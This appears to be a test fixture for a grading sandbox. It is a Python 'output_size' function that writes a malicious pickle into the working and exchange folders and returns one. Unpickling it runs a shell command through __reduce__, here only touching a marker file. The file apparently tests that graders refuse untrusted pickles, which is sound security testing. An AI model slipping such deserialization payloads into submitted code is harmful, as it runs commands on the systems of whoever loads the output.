# ruff: noqa
# What is returned runs code wherever it is unpickled.
# deserves: output_size 0
# %% output_size
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @VICTIM@/unpickled",)


def output_size(n, f, p=0, s=1):
    for folder in (os.getcwd(), os.path.dirname(os.getcwd()) + "/exchange"):
        try:
            open(folder + "/result.pkl", "wb").write(pickle.dumps(Bomb()))
        except OSError:
            pass
    return Bomb()
